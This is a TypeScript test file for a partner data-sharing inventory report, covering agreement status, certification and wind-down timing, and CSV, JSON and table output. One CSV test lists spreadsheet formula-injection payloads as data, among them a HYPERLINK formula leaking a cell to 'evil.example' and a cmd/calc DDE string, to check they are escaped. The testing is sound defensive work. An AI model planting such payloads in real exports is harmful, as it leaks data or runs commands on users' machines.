import assert from 'node:assert/strict';
import { describe, test, type TestContext } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { AuditEntry } from '../../src/audit/audit-entry.js';
import type { Agreement } from '../../src/domain/agreement.js';
import type { App } from '../../src/domain/app.js';
import { maskOf, type Field } from '../../src/domain/field-catalog.js';
import type { Partner } from '../../src/domain/partner.js';
import { RULES_VERSION } from '../../src/domain/reason-codes.js';
import { addDays, DAY_MS, type Instant } from '../../src/domain/time.js';
import { formatInventory, INVENTORY_COLUMNS, inventoryCsv } from '../../src/reports/inventory-format.js';
import { buildInventory, certificationState, inventoryReport, releaseWindowStart, type InventoryRow } from '../../src/reports/inventory.js';
import type { InventorySource } from '../../src/store/inventory-queries.js';
import { createStore } from '../../src/store/store.js';
import { DIALECTS, testDatabase } from '../helpers/dialects.js';
import { addMembers, addPartner } from '../helpers/fixtures.js';

const NOW = Date.parse('2026-06-01T00:00:00Z');
const iso = (instant: Instant) => new Date(instant).toISOString();

const PARTNER: Partner = {
  id: 'p_acme', legalName: 'Acme Devices Ltd', country: 'CN', kind: 'device_maker', riskFlags: ['state_influence', 'sanctions'],
  storage: { location: 'partner_servers', country: 'SG' }, contacts: [], webhookUrl: null, privacyPolicyUrl: null,
};
const APP: App = { id: 'app_acme', partnerId: 'p_acme', name: 'Acme Social', class: 'device_partner', status: 'active' };

function agreement(overrides: Partial<Agreement> & { member?: Field[]; friend?: Field[] } = {}): Agreement {
  const { member, friend, ...rest } = overrides;
  return {
    id: 'agr_acme', version: 3, partnerId: 'p_acme', status: 'active', statusReason: null,
    purposes: ['device_experience', 'contacts_sync'],
    memberFields: maskOf(member ?? ['id', 'name', 'birthday', 'friends']), friendFields: maskOf(friend ?? ['name', 'birthday']),
    startsAt: addDays(NOW, -400), endsAt: addDays(NOW, 300), certificationDueAt: addDays(NOW, 200), windDown: null,
    appIds: ['app_acme'], retentionDays: 30, storage: { location: 'partner_servers', country: 'DE' },
    ...rest,
  };
}

function source(overrides: Partial<InventorySource> = {}): InventorySource {
  return {
    partner: PARTNER, apps: [APP], agreement: agreement(), lastAccessAt: null,
    released: { fields: 0, members: 0 }, deletionAttestedAt: null, ...overrides,
  };
}

function row(overrides: Partial<InventorySource> = {}, now: Instant = NOW): InventoryRow {
  const [only] = buildInventory([source(overrides)], now);
  return only!;
}

describe('buildInventory: the columns', () => {
  test('partner, agreement, terms, storage and apps', () => {
    const r = row({ lastAccessAt: addDays(NOW, -2), released: { fields: 1234, members: 56 } });
    assert.equal(r.partner_id, 'p_acme');
    assert.equal(r.partner_legal_name, 'Acme Devices Ltd');
    assert.equal(r.partner_country, 'CN');
    assert.equal(r.partner_kind, 'device_maker');
    assert.deepEqual(r.risk_flags, ['state_influence', 'sanctions']);
    assert.equal(r.agreement_id, 'agr_acme');
    assert.equal(r.version, 3);
    assert.equal(r.status, 'active');
    assert.equal(r.status_reason, null);
    assert.equal(r.in_effect, true);
    assert.equal(r.not_in_effect_cause, null);
    assert.equal(r.starts_at, iso(addDays(NOW, -400)));
    assert.equal(r.age_days, 400);
    assert.equal(r.ends_at, iso(addDays(NOW, 300)));
    assert.equal(r.days_to_end, 300);
    assert.deepEqual(r.purposes, ['device_experience', 'contacts_sync']);
    assert.deepEqual(r.member_fields, ['id', 'name', 'birthday', 'friends']);
    assert.deepEqual(r.friend_fields, ['name', 'birthday']);
    assert.equal(r.retention_days, 30);
    // The agreement's storage, not the partner's declaration.
    assert.equal(r.storage_location, 'partner_servers');
    assert.equal(r.storage_country, 'DE');
    assert.equal(r.certification_due_at, iso(addDays(NOW, 200)));
    assert.equal(r.certification_state, 'current');
    assert.equal(r.last_access_at, iso(addDays(NOW, -2)));
    assert.equal(r.fields_released_30d, 1234);
    assert.equal(r.members_reached_30d, 56);
    assert.equal(r.wind_down_phase, null);
    assert.equal(r.wind_down, null);
    assert.equal(r.deletion_attested_at, null);
    assert.deepEqual(r.apps, ['app_acme']);
  });

  test('every row has exactly the CSV columns, in order', () => {
    assert.deepEqual(Object.keys(row()).sort(), [...INVENTORY_COLUMNS].sort());
    assert.deepEqual(Object.keys(row({ agreement: null })).sort(), [...INVENTORY_COLUMNS].sort());
  });

  test('a partner without an agreement is a row of its own: no_agreement, its declared storage, its apps', () => {
    const r = row({ agreement: null });
    assert.equal(r.partner_id, 'p_acme');
    assert.equal(r.agreement_id, null);
    assert.equal(r.version, null);
    assert.equal(r.status, null);
    assert.equal(r.in_effect, false);
    assert.equal(r.not_in_effect_cause, 'no_agreement');
    assert.equal(r.starts_at, null);
    assert.equal(r.age_days, null);
    assert.equal(r.days_to_end, null);
    assert.deepEqual(r.purposes, []);
    assert.deepEqual(r.member_fields, []);
    assert.equal(r.storage_location, 'partner_servers');
    assert.equal(r.storage_country, 'SG');
    assert.equal(r.certification_state, null);
    assert.equal(r.fields_released_30d, 0);
    assert.equal(r.members_reached_30d, 0);
    assert.deepEqual(r.apps, ['app_acme']);
  });

  test('on-device storage has no country', () => {
    const r = row({ agreement: agreement({ storage: { location: 'on_device' } }) });
    assert.equal(r.storage_location, 'on_device');
    assert.equal(r.storage_country, null);
  });

  test('in effect is what the rules say, whatever the recorded status', () => {
    assert.equal(row({ agreement: agreement({ endsAt: NOW }) }).not_in_effect_cause, 'expired');
    assert.equal(row({ agreement: agreement({ endsAt: NOW + 1 }) }).in_effect, true);
    const suspended = row({ agreement: agreement({ status: 'suspended', statusReason: 'certification_overdue', certificationDueAt: addDays(NOW, -75) }) });
    assert.equal(suspended.status, 'suspended');
    assert.equal(suspended.status_reason, 'certification_overdue');
    assert.equal(suspended.not_in_effect_cause, 'certification_overdue');
    assert.equal(row({ agreement: agreement({ status: 'suspended', statusReason: 'investigation' }) }).not_in_effect_cause, 'suspended');
    assert.equal(row({ agreement: agreement({ status: 'draft' }) }).not_in_effect_cause, 'not_active');
    assert.equal(row({ agreement: agreement({ status: 'terminated' }) }).not_in_effect_cause, 'terminated');
  });

  test('rows keep the order of the sources', () => {
    const rows = buildInventory([source(), source({ agreement: null, partner: { ...PARTNER, id: 'p_zte' } })], NOW);
    assert.deepEqual(rows.map((r) => r.partner_id), ['p_acme', 'p_zte']);
  });
});

describe('buildInventory: age and days to end', () => {
  test('age is whole days since the start, rounded down; null before the start', () => {
    const startsAt = NOW;
    assert.equal(row({ agreement: agreement({ startsAt }) }, startsAt).age_days, 0);
    assert.equal(row({ agreement: agreement({ startsAt }) }, startsAt + DAY_MS - 1).age_days, 0);
    assert.equal(row({ agreement: agreement({ startsAt }) }, startsAt + DAY_MS).age_days, 1);
    const early = row({ agreement: agreement({ startsAt }) }, startsAt - 1);
    assert.equal(early.age_days, null);
    assert.equal(early.not_in_effect_cause, 'not_started');
  });

  test('days to end count up to the end (1 on the last day), then the whole days since, negative', () => {
    const endsAt = addDays(NOW, 10);
    const at = (now: Instant) => row({ agreement: agreement({ endsAt }) }, now).days_to_end;
    assert.equal(at(NOW), 10);
    assert.equal(at(endsAt - DAY_MS - 1), 2);
    assert.equal(at(endsAt - DAY_MS), 1);
    assert.equal(at(endsAt - 1), 1);
    assert.equal(at(endsAt), 0);
    assert.equal(at(endsAt + DAY_MS - 1), 0);
    assert.equal(at(endsAt + 30 * DAY_MS), -30);
  });
});

describe('certification state', () => {
  const due = NOW;
  const state = (now: Instant) => certificationState(due, now).label;

  test('current while more than 30 days away, then due in N days (rounded up)', () => {
    assert.equal(state(due - 30 * DAY_MS - 1), 'current');
    assert.equal(state(due - 30 * DAY_MS), 'due in 30 days');
    assert.equal(state(due - 2 * DAY_MS), 'due in 2 days');
    assert.equal(state(due - DAY_MS - 1), 'due in 2 days');
    assert.equal(state(due - DAY_MS), 'due in 1 day');
    assert.equal(state(due - 1), 'due in 1 day');
  });

  test('overdue by whole days from the due instant, lapsed at 60 days past due', () => {
    assert.equal(state(due), 'overdue by 0 days');
    assert.equal(state(due + DAY_MS - 1), 'overdue by 0 days');
    assert.equal(state(due + DAY_MS), 'overdue by 1 day');
    assert.equal(state(due + 59 * DAY_MS), 'overdue by 59 days');
    assert.equal(state(due + 60 * DAY_MS - 1), 'overdue by 59 days');
    assert.equal(state(due + 60 * DAY_MS), 'lapsed');
    assert.equal(certificationState(due, due + 60 * DAY_MS).state, 'lapsed');
  });

  test('lapsed is exactly when the rules stop the agreement', () => {
    const dueAt = addDays(NOW, -60);
    const lapsed = row({ agreement: agreement({ certificationDueAt: dueAt }) });
    assert.equal(lapsed.certification_state, 'lapsed');
    assert.equal(lapsed.not_in_effect_cause, 'certification_overdue');
    const justBefore = row({ agreement: agreement({ certificationDueAt: dueAt + 1 }) });
    assert.equal(justBefore.certification_state, 'overdue by 59 days');
    assert.equal(justBefore.in_effect, true);
  });
});

describe('wind-down progress', () => {
  const plan = { noNewGrants: addDays(NOW, -10), noFriendData: addDays(NOW, 20), accessEnded: addDays(NOW, 50) };
  const windingDown = agreement({ status: 'winding_down', statusReason: 'risk_review', windDown: plan });
  const at = (now: Instant, deletionAttestedAt: Instant | null = null) => row({ agreement: windingDown, deletionAttestedAt }, now);

  test('the three dates are always shown', () => {
    const r = at(NOW);
    assert.equal(r.wind_down_no_new_grants_at, iso(plan.noNewGrants));
    assert.equal(r.wind_down_no_friend_data_at, iso(plan.noFriendData));
    assert.equal(r.wind_down_access_ended_at, iso(plan.accessEnded));
  });

  test('each phase starts at the exact instant of its date', () => {
    assert.equal(at(plan.noNewGrants - 1).wind_down_phase, 'none');
    assert.equal(at(plan.noNewGrants - 1).wind_down, 'scheduled (no new grants from 2026-05-22, no friend data from 2026-06-21, access ends 2026-07-21)');
    assert.equal(at(plan.noNewGrants).wind_down_phase, 'no_new_grants');
    assert.equal(at(NOW).wind_down, 'no_new_grants (no friend data from 2026-06-21, access ends 2026-07-21)');
    assert.equal(at(NOW).in_effect, true);
    assert.equal(at(plan.noFriendData - 1).wind_down_phase, 'no_new_grants');
    assert.equal(at(plan.noFriendData).wind_down_phase, 'no_friend_data');
    assert.equal(at(plan.noFriendData).wind_down, 'no_friend_data (access ends 2026-07-21)');
    assert.equal(at(plan.accessEnded - 1).in_effect, true);
    const ended = at(plan.accessEnded);
    assert.equal(ended.wind_down_phase, 'access_ended');
    assert.equal(ended.not_in_effect_cause, 'access_ended');
    assert.equal(ended.wind_down, 'access_ended (2026-07-21), deletion attestation due by 2026-08-20');
  });

  test('after access ends: the deletion attestation, or deletion unconfirmed 30 days on', () => {
    const attested = at(addDays(plan.accessEnded, 5), addDays(plan.accessEnded, 3));
    assert.equal(attested.deletion_attested_at, iso(addDays(plan.accessEnded, 3)));
    assert.equal(attested.wind_down, 'access_ended (2026-07-21), deletion attested 2026-07-24');
    assert.equal(at(addDays(plan.accessEnded, 30) - 1).wind_down, 'access_ended (2026-07-21), deletion attestation due by 2026-08-20');
    assert.equal(at(addDays(plan.accessEnded, 30)).wind_down, 'access_ended (2026-07-21), deletion unconfirmed (no attestation since 2026-08-20)');
  });
});

describe('formats', () => {
  const inventory = {
    generated_at: iso(NOW),
    data: buildInventory([
      source({ partner: { ...PARTNER, legalName: 'Acme "Devices", Ltd' }, lastAccessAt: addDays(NOW, -1), released: { fields: 9, members: 2 } }),
      source({ agreement: null, partner: { ...PARTNER, id: 'p_zte', legalName: 'ZTE Corporation', riskFlags: [] } }),
    ], NOW),
  };

  test('CSV: a header of every column, quoting done by the library, lists space-separated, null empty', () => {
    const records = parse(inventoryCsv(inventory), { columns: true }) as Record<string, string>[];
    assert.equal(records.length, 2);
    assert.deepEqual(Object.keys(records[0]!), [...INVENTORY_COLUMNS]);
    assert.equal(records[0]!.partner_legal_name, 'Acme "Devices", Ltd');
    assert.equal(records[0]!.risk_flags, 'state_influence sanctions');
    assert.equal(records[0]!.member_fields, 'id name birthday friends');
    assert.equal(records[0]!.in_effect, 'true');
    assert.equal(records[0]!.fields_released_30d, '9');
    assert.equal(records[1]!.agreement_id, '');
    assert.equal(records[1]!.not_in_effect_cause, 'no_agreement');
  });

  test('CSV: a text cell a spreadsheet would run as a formula starts with a single quote (OWASP); numbers stay numbers', () => {
    const names = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', 'Acme = safe'];
    const formulas: typeof inventory = {
      generated_at: iso(NOW),
      data: buildInventory(names.map((legalName, i) => source({
        partner: { ...PARTNER, id: `p_${i}`, legalName },
        // Ended 10 days ago: a negative day count, and a suspension reason typed by staff.
        agreement: agreement({ status: 'suspended', statusReason: '=1+2', endsAt: addDays(NOW, -10) }),
      })), NOW),
    };
    for (const csv of [inventoryCsv(formulas), formatInventory(formulas, 'csv')]) {
      const records = parse(csv, { columns: true }) as Record<string, string>[];
      assert.deepEqual(records.map((r) => r.partner_legal_name), [
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '\'+1+cmd|\' /C calc\'!A0', '\'-2+3', '\'@SUM(1+1)', '\'\t=1+1', '\'\r=1+1', 'Acme = safe',
      ]);
      assert.ok(records.every((r) => r.status_reason === "'=1+2"));
      assert.ok(records.every((r) => r.days_to_end === '-10'), 'a computed negative number is not text');
      // No cell of any row starts a formula.
      for (const record of records) for (const cell of Object.values(record)) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?!\d+$)/, cell);
    }
  });

  test('JSON is the inventory itself', () => {
    assert.deepEqual(JSON.parse(formatInventory(inventory, 'json')), JSON.parse(JSON.stringify(inventory)));
  });

  test('the table: an overview line per row, then every row in full, lines of a fixed width', () => {
    const text = formatInventory(inventory, 'table');
    assert.match(text, /as of 2026-06-01T00:00:00.000Z \(2 rows\)/);
    assert.match(text, /│ p_zte +│ - +│ no agreement +│ no: no_agreement/);
    assert.match(text, /│ member fields +│ id, name, birthday, friends +│/);
    assert.match(text, /│ released, last 30 days │ 9 fields about 2 members +│/);
    assert.match(text, /│ agreement +│ none: every request of its apps is refused +│/);
    assert.doesNotMatch(text, /\u001b\[/, 'no colour codes');
    const cardLines = text.split('\n').filter((line) => line.startsWith('│ partner  '));
    assert.equal(new Set(cardLines.map((line) => line.length)).size, 1);
  });
});

for (const dialect of DIALECTS) {
  describe(`inventoryReport: what the store gathers, on ${dialect}`, () => {
    async function world(t: TestContext) {
      const store = createStore((await testDatabase(t, dialect)).db);
      await addMembers(store, [{ id: 'm1' }, { id: 'm2' }, { id: 'm3' }], NOW);
      const acme = await addPartner(store, 'acme', {}, NOW);
      const zte = await addPartner(store, 'zte', { withoutAgreement: true }, NOW);
      return { store, acme, zte };
    }

    const entry = (agreementId: string, at: Instant, subject: string, released: Field[], outcome: AuditEntry['outcome'] = 'released'): AuditEntry => ({
      at, requestId: `r_${at}_${subject}`, appId: 'app_acme', partnerId: 'p_acme', agreementId, agreementVersion: 1, rulesVersion: RULES_VERSION,
      tokenMemberId: 'm1', subjectMemberId: subject, purpose: 'device_experience', outcome, code: null, released, withheld: {},
    });

    test('a partner without an agreement appears; released volume counts only the last 30 days, without id', async (t) => {
      const { store, acme } = await world(t);
      const since = releaseWindowStart(NOW); // the start of the UTC day 29 days before now's
      assert.equal(new Date(since).toISOString(), '2026-05-03T00:00:00.000Z');
      await store.audit.append([
        entry(acme.agreementId, since, 'm1', ['id', 'name', 'birthday']), // the window's first instant: counted (2 fields)
        entry(acme.agreementId, since - 1, 'm3', ['id', 'name', 'email']), // just before: not counted
        entry(acme.agreementId, NOW, 'm2', ['id', 'name']), // now: counted (1)
        entry(acme.agreementId, addDays(NOW, -1), 'm1', ['name', 'email', 'picture']), // no id: 3
        entry(acme.agreementId, addDays(NOW, -1), 'm3', [], 'withheld'), // withheld: not counted
        entry(acme.agreementId, NOW + 1, 'm3', ['id', 'name']), // after `now`: not counted
      ]);
      const inventory = await inventoryReport(store, NOW);
      assert.equal(inventory.generated_at, iso(NOW));
      const byPartner = new Map(inventory.data.map((r) => [r.partner_id, r]));
      const acmeRow = byPartner.get('p_acme')!;
      assert.equal(acmeRow.fields_released_30d, 6);
      assert.equal(acmeRow.members_reached_30d, 2);
      assert.equal(acmeRow.last_access_at, iso(NOW));
      assert.deepEqual(acmeRow.apps, ['app_acme']);
      const zteRow = byPartner.get('p_zte')!;
      assert.equal(zteRow.agreement_id, null);
      assert.equal(zteRow.not_in_effect_cause, 'no_agreement');
      assert.deepEqual(zteRow.apps, ['app_zte']);
      assert.equal(inventory.data.length, 2);
    });

    test('last access: the later of audited releases and grants last used, never after `now`', async (t) => {
      const { store, acme } = await world(t);
      await store.grants.insertMany([
        { id: 'g1', memberId: 'm1', appId: acme.appId, agreementId: acme.agreementId, agreementVersion: 1, purpose: 'device_experience',
          memberFields: maskOf(['id']), friendFields: 0, grantedAt: addDays(NOW, -50), lastUsedAt: addDays(NOW, -3), revokedAt: null },
        { id: 'g2', memberId: 'm2', appId: acme.appId, agreementId: acme.agreementId, agreementVersion: 1, purpose: 'device_experience',
          memberFields: maskOf(['id']), friendFields: 0, grantedAt: addDays(NOW, -50), lastUsedAt: addDays(NOW, 3), revokedAt: null },
      ]);
      await store.audit.append([entry(acme.agreementId, addDays(NOW, -40), 'm1', ['id', 'name'])]);
      const rowAt = async (now: Instant) => (await inventoryReport(store, now)).data.find((r) => r.partner_id === 'p_acme')!;
      assert.equal((await rowAt(NOW)).last_access_at, iso(addDays(NOW, -3)));
      // Released 40 days ago: the last access, but outside the 30 days.
      assert.equal((await rowAt(addDays(NOW, -10))).last_access_at, iso(addDays(NOW, -40)));
      assert.equal((await rowAt(addDays(NOW, -10))).fields_released_30d, 0, 'released 30 days before: outside');
      assert.equal((await rowAt(addDays(NOW, -11))).fields_released_30d, 1, 'released on the window\'s first day');
      assert.equal((await rowAt(NOW)).fields_released_30d, 0);
      assert.equal((await rowAt(addDays(NOW, -41))).last_access_at, null);
      assert.equal((await rowAt(addDays(NOW, 5))).last_access_at, iso(addDays(NOW, 3)));
    });

    test('a deletion attestation filed by the partner shows in the wind-down', async (t) => {
      const store = createStore((await testDatabase(t, dialect)).db);
      const plan = { noNewGrants: addDays(NOW, -60), noFriendData: addDays(NOW, -50), accessEnded: addDays(NOW, -40) };
      const acme = await addPartner(store, 'acme', { agreement: { status: 'winding_down', windDown: plan } }, NOW);
      await store.filings.file({
        kind: 'deletion_attestation', agreementId: acme.agreementId, agreementVersion: 1, appId: acme.appId,
        signedBy: 'DPO', statement: 'Deleted.', filedAt: addDays(NOW, -35),
      });
      const [r] = (await inventoryReport(store, NOW)).data;
      assert.equal(r!.deletion_attested_at, iso(addDays(NOW, -35)));
      assert.match(r!.wind_down!, /deletion attested 2026-04-27$/);
      const [before] = (await inventoryReport(store, addDays(NOW, -36))).data;
      assert.equal(before!.deletion_attested_at, null);
    });
  });
}
